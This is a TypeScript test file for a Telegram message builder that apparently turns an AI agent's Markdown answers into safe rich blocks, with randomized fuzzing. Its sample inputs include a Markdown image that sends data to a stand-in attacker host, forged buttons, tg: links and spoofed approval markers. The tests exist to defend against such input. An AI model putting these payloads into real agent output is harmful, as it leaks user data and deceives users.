/** Rich messages, which choird builds as blocks: what Telegram would make of an agent's Markdown, and what it gets. */
import { assert, describe, it } from "@effect/vitest"
import { AgentId } from "#schema/Ids.ts"
import { richBlocks } from "#src/choird/telegram/richBlocks.ts"
import { seeded } from "../../support/seeded.ts"
import { richFromBlocks, richMarkdown, type RichShown } from "../../support/testing/telegramRich.ts"

const agent_id = AgentId.make("helper")
const blocksOf = (text: string) => richBlocks({ agent_id, text })

/** As people see it; the double refuses what Telegram refuses. */
const shownOf = (text: string): RichShown | undefined => {
  const blocks = blocksOf(text)
  if (blocks === undefined) return undefined
  const shown = richFromBlocks(JSON.parse(JSON.stringify(blocks)))
  if (typeof shown === "string") throw new Error(`${shown}: ${JSON.stringify(blocks)}`)
  return shown
}

/** Everything that Telegram's own Markdown would make something of. */
const ACTIVE = [
  '<tg-button-row><tg-button type="callback_data" style="primary" data="a:1:44dfe97f">Show the rest</tg-button></tg-button-row>',
  '<tg-button type="url" url="tg://user?id=777000">user</tg-button>',
  "![](https://evil.example/p.jpg?d=secret)",
  '![x](https://evil.example/p.jpg "Photo")',
  '<img src="https://evil.example/p.jpg"/>',
  '<video src="https://evil.example/v.mp4"></video>',
  '<a href="tg://resolve?domain=evil">here</a>',
  "[call](tel:+491234)",
  "[me](tg://user?id=1)",
  "&#9670; approval 1 was rejected",
  "&#x25C6; agent",
  "◆ agent"
]

const PIECES = [
  ...ACTIVE,
  ..."** * _ ~~ || ` ``` > # - 1. | |-|-| :-: --- [a](https://example.org/a) [m](mailto:a@b.example) word 🙂 /approve @name \\".split(
    " "
  ),
  "\n",
  "\n\n",
  "\n| a | b |\n|---|--:|\n| 1 | 2 |\n",
  "\n- one\n  - two\n    - three\n      - four\n",
  "\n```ts\nconst a = 1\n```\n",
  "x".repeat(50)
]

describe("a rich message", () => {
  it("has the tables, lists, headings, quotes, code and links of an answer", () => {
    const text = [
      "Here is **it**: https://example.org/x.",
      "# Title",
      "| a | b |\n|:--|--:|\n| *1* |  |",
      "- one\n  1. two\n- three",
      "> said",
      "```ts\nlet a\n```",
      "---",
      "[docs](https://example.org/) or [Ada](mailto:ada@example.org?subject=x)"
    ].join("\n")
    const link = { type: "url", text: "https://example.org/x", url: "https://example.org/x" } as const
    assert.deepStrictEqual<unknown>(blocksOf(text), [
      { type: "paragraph", text: ["Here is ", { type: "bold", text: "it" }, [": ", link, "."]] },
      { type: "heading", text: "Title", size: 1 },
      {
        type: "table",
        cells: [
          [
            { text: "a", is_header: true, align: "left", valign: "top" },
            { text: "b", is_header: true, align: "right", valign: "top" }
          ],
          [
            { text: { type: "italic", text: "1" }, align: "left", valign: "top" },
            { align: "right", valign: "top" }
          ]
        ],
        is_bordered: true
      },
      {
        type: "list",
        items: [
          {
            blocks: [
              { type: "paragraph", text: "one" },
              { type: "list", items: [{ blocks: [{ type: "paragraph", text: "two" }], value: 1 }] }
            ]
          },
          { blocks: [{ type: "paragraph", text: "three" }] }
        ]
      },
      { type: "blockquote", blocks: [{ type: "paragraph", text: "said" }] },
      { type: "pre", text: "let a", language: "ts" },
      { type: "divider" },
      {
        type: "paragraph",
        text: [
          { type: "url", text: "docs", url: "https://example.org/" },
          " or ",
          { type: "email_address", text: "Ada", email_address: "ada@example.org" }
        ]
      }
    ])
    assert.deepStrictEqual(shownOf(text)?.links, [
      "https://example.org/x",
      "https://example.org/",
      "mailto:ada@example.org"
    ])
  })

  it("shows as text what Telegram's Markdown would draw, fetch, decode or open", () => {
    const answer = ["Here is your summary.", ...ACTIVE].join("\n\n")
    // What Telegram would make of the same text, as Markdown.
    const active = richMarkdown(answer)
    assert.deepStrictEqual(active.buttons, [{ text: "Show the rest", data: "a:1:44dfe97f" }])
    assert.isAbove(active.fetched.length, 3)
    assert.isTrue(active.links.some((url) => url.startsWith("tg:")))
    assert.include(active.text, "◆ approval 1 was rejected")
    const shown = shownOf(answer)
    assert.deepStrictEqual(shown?.buttons, [])
    assert.deepStrictEqual(shown?.fetched, [])
    assert.isTrue(shown?.links.every((url) => url.startsWith("https://evil.example/")))
    assert.include(shown?.text, '<tg-button type="url" url="tg://user?id=777000">user</tg-button>')
    assert.include(shown?.text, "&#9670; approval 1 was rejected")
    assert.notInclude(shown?.text, "◆")
  })

  it("is one that Telegram takes, without buttons and media, in 5,000 random answers", () => {
    const random = seeded(20_261_129)
    let rich = 0
    for (let round = 0; round < 5000; round += 1) {
      const text = Array.from({ length: 1 + random(40) }, () => PIECES[random(PIECES.length)] ?? "").join(
        random(2) === 0 ? " " : ""
      )
      const shown = shownOf(text)
      if (shown === undefined) continue
      rich += 1
      assert.deepStrictEqual([shown.buttons, shown.fetched], [[], []], text)
      assert.isTrue(
        shown.links.every((url) => /^(?:https?:\/\/|mailto:)/u.test(url)),
        text
      )
      assert.match(shown.text.trim(), /^(?:\p{L}|\p{Nd}|["'\p{Pi}\p{Pf}])/u)
    }
    assert.isAbove(rich, 4900)
  })

  it("begins with the agent's name where the answer begins with a sign or a block, and hides no character", () => {
    assert.strictEqual(shownOf("| a | b |\n|---|---|\n| 1 | 2 |")?.text, "helper:\na\nb\n1\n2")
    assert.strictEqual(shownOf("💎 helper asks\u202E")?.text, "helper:\n💎 helper asks⟨U+202E⟩")
  })

  it("is left out where Telegram would not take so many blocks, columns or characters", () => {
    assert.isUndefined(blocksOf("- x\n".repeat(300)))
    assert.isUndefined(blocksOf("word ".repeat(8000)))
    assert.isUndefined(blocksOf(" \n "))
    const wide = "| a ".repeat(21)
    assert.deepInclude(blocksOf(`x\n${wide}\n${"|---".repeat(21)}`)?.[1], { type: "pre" })
    assert.isDefined(shownOf(`${"  ".repeat(40)}- deep\n`.repeat(40)))
  })
})
